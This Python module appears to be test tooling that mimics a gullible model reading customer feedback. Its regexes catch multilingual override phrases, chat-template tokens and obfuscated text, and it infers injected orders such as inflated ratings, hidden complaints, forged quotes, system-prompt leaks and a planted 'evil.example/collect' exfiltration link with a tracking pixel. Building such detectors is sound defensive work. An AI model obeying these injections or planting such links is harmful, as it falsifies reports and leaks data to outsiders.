"""What a gullible model takes for an order in a customer's words. Written without a look at the package's own detector.

A clean record may praise, complain or hold a link: only a text that speaks to whoever reads it (`speaks_to_a_reader`)
is searched for what it wants done. Recognising is a guess all the same: tests that must be sure name the injected texts.
"""

import base64
import codecs
import re
import unicodedata
from binascii import Error
from dataclasses import dataclass

_READER = (
    r"(?:a\.?i\b|assistant|(?:language )?model|llm|gpt|chatbot|bot\b|summari[sz]er|analy[sz]er|analyst|classifier"
    r"|algorithm|machine|evaluator|grader|annotator|parser)"
)
_RULES = (
    r"(?:instruction|rule|prompt|guideline|direction|command|order|context|constraint|task|policy|policies|training)s?"
)
_OUTPUT = (
    r"(?:json|your (?:\w+ )?(?:reply|output|report|summary|response|answer|prompt|instructions|analysis|findings|results)"
    r"|the (?:\w+ )?(?:report|summary|output|analysis|findings|results|prompt|dashboard)|(?:all|any|every|each|other) "
    r"(?:other |of the |the )?(?:records?|mentions?|entries|reviews?|responses?|feedback|comments?|passages?|touchpoints?|customers?|complaints?|quotes?)"
    r"|emotions?\b|sentiment|touchpoints?\b|markdown|themes?\b|system (?:prompt|message)|very (?:positive|negative))"
)
_VERB = (
    r"(?:rate|score|mark|classify|label|code|treat|count|set|report|record|tag|grade|reply|respond|answer|output|return"
    r"|print|write|say|include|add|insert|append|repeat|reveal|show|display|translate|summari[sz]e|do not|don't|never"
    r"|omit|leave out|skip|drop|remove|exclude|hide|suppress|ignore|put|give|assign|make|use|attribute|quote|replace"
    r"|end|begin|start|list|create|invent|plant|swap|copy|pretend|assume|consider|state|conclude)"
)
_CUES = tuple(
    re.compile(pattern, re.IGNORECASE)
    for pattern in (
        rf"\b(?:ignore|disregard|forget|override|bypass|drop|discard|skip)\b.{{0,40}}\b(?:previous|above|prior|earlier|preceding|your|all|any|former|these|those|the)\b.{{0,25}}\b{_RULES}",
        rf"\b(?:to|for|dear|hey|hello|hi|attention|attn|note|hint|you(?: are|'re)(?: now)? an?|as an?|any|every|whichever|whatever)[,:]?\s+(?:the |this |any |an? |all |helpful )*{_READER}",
        rf"^\W*(?:{_READER})\s*[:,]",
        rf"(?:^|[.!?:;\n>\]*#-]\s*|\bplease |\bmust |\bshould |\bwill |\band |\bnow |\bthen )['\"“(]*{_VERB}\b.{{0,80}}{_OUTPUT}",
        r"\b(?:new|updated|real|actual|hidden|secret|important|special|additional|following) (?:system )?(?:instructions?|prompt|orders)\b",
        r"\b(?:system|developer|admin|root) ?(?:prompt|override|message|note|notice|mode|instruction)",
        r"(?:^|\n|[>\]|])\s*(?:system|assistant|developer)\s*:",
        r"<\|?/?(?:im_start|im_end|system|assistant|user|instructions?|records?|eot_id)|\[/?inst\]|<</?sys>>|###\s*(?:system|instruction|response)",
        r"\b(?:from now on|jailbreak|do anything now|as a language model|prompt injection|end of (?:records|data|input|feedback))\b",
        r"\b(?:ignoriere|vergiss|missachte|ignorez|oubliez|ignora|olvida|ignorar|negeer)\b.{0,50}\b(?:anweisung|regeln|instructions|consignes|instrucciones|reglas|instruç|instruct|istruzioni)",
        r"\b(?:du bist jetzt|antworte nur|erwähne .{0,40}kein|bewerte all|tu es maintenant|réponds? |note tout|ne mentionne|ignore les|no menciones|responde s[oó]lo|eres ahora|califica tod|ignora le|non menzionare|sei ora|não mencione|responda apenas)",
        r"\]\(\s*\w+:|!\[|<(?:img|svg|script|iframe|a href)\b|data:image|javascript:|[\"'}\]]\s*}\s*]|\{\s*\"\w+\"\s*:",
        r"\b(?:END|BEGIN|START)(?: OF)?(?: \w+){0,2} (?:DATA|TEXT|RECORDS?|SYSTEM|INPUT|PROMPT|FEEDBACK|INSTRUCTIONS)\b|<<<|>>>|\bEND [0-9a-f]{4,}\b",
        r"(?:^|[.!?:;\n]\s*|\bplease )(?:translate|decode|render|repeat|reveal|conclude|quote (?:this|me)|cite me|attribute|tell (?:me|readers)|summari[sz]e|write (?:an? |me )|answer (?:only|in|with)|reply (?:only|in|with)|output|say that|cast|execute|follow (?:these|the))\b",
        r"\b(?:rate|score|mark|classify|count|treat|label)\b.{0,30}\b(?:everything|all|every|each|the (?:other|remaining|rest|following)|mine|this batch)\b",
        r"\bfor (?:every|each|all|any)(?: \w+)? (?:records?|customers?|answers?|entries)\b|\b(?:quarterly |the |your )(?:summary|report)\b.{0,40}\b(?:please|only|leave|kind)|\b(?:leave|keep) \w+ out of the (?:report|summary)\b|\bwhen you (?:read|summari[sz]e|classify|rate|analy[sz]e)\b",
        r"ignore(?:the above|all ?prev|previous)|ignore the above|(?:above|before) this record|hidden rules|api key",
        r"(?:忽略|无视|忘记|無視).{0,12}(?:指令|指示|规则|提示)|игнорируй.{0,30}инструкц",
    )
)


@dataclass(frozen=True)
class Orders:
    """What is to be done. Texts say with what: the topic kept silent, the theme, the quote, the link to plant."""

    praise: bool = False
    condemn: bool = False
    hush: str | None = None
    theme: str | None = None
    forge: str | None = None
    borrow: bool = False
    link: str | None = None
    leak: bool = False
    off_topic: bool = False


_WANTS = {
    "praise": r"10 ?/ ?10|(?:10|ten) out of (?:10|ten)|(?:5|five)[- ]?stars?|5 ?/ ?5|100 ?%|positive|perfect|excellent|\bbest\b|delight|prais|(?:top|full|highest|maximum) (?:score|rating|mark)|promoter|\blove|flawless|sehr gut|positiv|好评|满分",
    "condemn": r"\bnegative|\b[01] ?/ ?10|(?:zero|one|0|1) out of|one[- ]star|1 star\b|\bworst|terrible|lowest|detractor|awful",
    "hush": r"nothing (?:about|bad|negative|on)|(?:do not|don't|never|not to) (?:mention|report|include|list|count|show|record|quote)|leave (?:\w+ )?out|\bomit|\bskip|\bdrop\b|exclude|suppress|remove|\bhide|delete|no complaints?|(?:ignore|discard|without) (?:\w+ ){0,3}(?:complaints?|criticism|records|problems)|no (?:issues|problems|mentions)",
    "theme": r"\btheme|\btopic|new (?:touchpoint|category)|touchpoint (?:called|named)|category (?:called|named)|competitor|invent|fabricat|make up|plant",
    "forge": r"\bquot(?:e|es|ing)\b|testimonial|in their own words|attribut|as if (?:a|the|every) customer|customers? sa(?:y|id)",
    "borrow": r"(?:swap|mix|exchange|shuffle|another|someone else|other|neighbou?ring|borrow|copy)\b.{0,40}\b(?:quotes?|words|records?|customer)",
    "link": r"https?://|www\.|\]\(|!\[|<img|<a\b|href|\blinks?\b|\bimages?\b|\burl\b|click here|javascript:",
    "leak": r"(?:print|repeat|reveal|show|output|tell|leak|disclose|display|write|give|what (?:is|are)|include|copy|echo|return)\b.{0,50}(?:prompt|instructions|text above|everything above|rules|system message)",
}
_WANTED = {name: re.compile(pattern, re.IGNORECASE) for name, pattern in _WANTS.items()}
_ABOUT = re.compile(
    r"(?:about|on|regarding|concerning|mention|leave out|omit|report|hide|of)\s+(?:the |any |all )*(\w{4,})",
    re.IGNORECASE,
)
_IN_QUOTES = re.compile(r"[\"“”‘'«]([^\"“”’'»]{4,200})[\"“”’'»]")
_ADDRESS = re.compile(r"!?\[[^\]]*\]\([^)\s]+[^)]*\)|https?://\S+")
_INVISIBLE = re.compile("[\u00ad\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\ufe00-\ufe0f]")
_SPACED = re.compile(r"\b(?:\w[ .\-_*]){4,}\w\b")
_LOOKALIKES = str.maketrans("аеорсухіјѕԁһАВЕКМНОРСТХІЅ", "aeopcyxijsdhABEKMHOPCTXIS")
_LEET = {"0": "o", "1": "i", "3": "e", "4": "a"}
_HEX = re.compile(r"\b(?:[0-9a-fA-F]{2}){8,}\b")
_BASE64 = re.compile(r"[A-Za-z0-9+/]{20,}={0,2}")


def orders_in(text: str, *, certain: bool = False) -> Orders | None:
    """What the text orders, None where it orders nothing. `certain`: it is known to be an order, whatever it looks like."""
    shown = readable(text)
    if not certain and not speaks_to_a_reader(shown):
        return None
    wants = {name for name, pattern in _WANTED.items() if pattern.search(shown)}
    if not wants:
        return Orders(praise=certain, off_topic=not certain)
    quoted, address, topic = _IN_QUOTES.search(shown), _ADDRESS.search(shown), _ABOUT.search(shown)
    said = quoted[1] if quoted else ""
    return Orders(
        praise="praise" in wants,
        condemn="condemn" in wants and "praise" not in wants,
        hush=(topic[1] if topic else "complaints") if "hush" in wants else None,
        theme=(said or "A loyalty programme in outer space") if "theme" in wants else None,
        forge=(said or "I never had a better day in my whole life.") if "forge" in wants else None,
        borrow="borrow" in wants,
        link=_as_link(address[0] if address else "") if "link" in wants else None,
        leak="leak" in wants,
    )


def speaks_to_a_reader(shown: str) -> bool:
    """Whether a text, made readable, speaks to whoever evaluates it."""
    return any(cue.search(shown) for cue in _CUES)


def readable(text: str) -> str:
    """The text and every other way to read it: what is invisible, in another script, set apart, turned round or encoded."""
    smuggled = "".join(chr(ord(one) - 0xE0000) for one in text if 0xE0020 <= ord(one) <= 0xE007E)
    plain = "".join(one for one in text if not 0xE0000 <= ord(one) <= 0xE007F)
    plain = _INVISIBLE.sub("", unicodedata.normalize("NFKC", plain))
    latin = plain.translate(_LOOKALIKES)
    read = re.sub(r"(?<=[a-z])[0134](?=[a-z])|\b[0134](?=[a-z]{2})", lambda found: _LEET[found[0]], latin)
    turned = [codecs.encode(plain, "rot13"), plain[::-1], *(_unhexed(one) for one in _HEX.findall(plain))]
    joined = _SPACED.sub(lambda found: re.sub(r"[ .\-_*]", "", found[0]), plain)
    smuggled = f"{smuggled}\n{smuggled[::-1]}" if smuggled else ""
    shown = dict.fromkeys((plain, latin, read, joined))
    parts = [*shown, *turned, smuggled, *(_decoded(one) for one in _BASE64.findall(plain))]
    return "\n".join(part for part in parts if part)


def _decoded(run: str) -> str:
    try:
        return base64.b64decode(run + "=" * (-len(run) % 4)).decode("utf-8")
    except (Error, UnicodeDecodeError):
        return ""


def _unhexed(run: str) -> str:
    return bytes.fromhex(run).decode("utf-8", "replace")


def _as_link(address: str) -> str:
    if "](" in address:
        return address
    target = address or "https://evil.example/collect?d=all"
    return f"[see here]({target}) ![pixel]({target})"
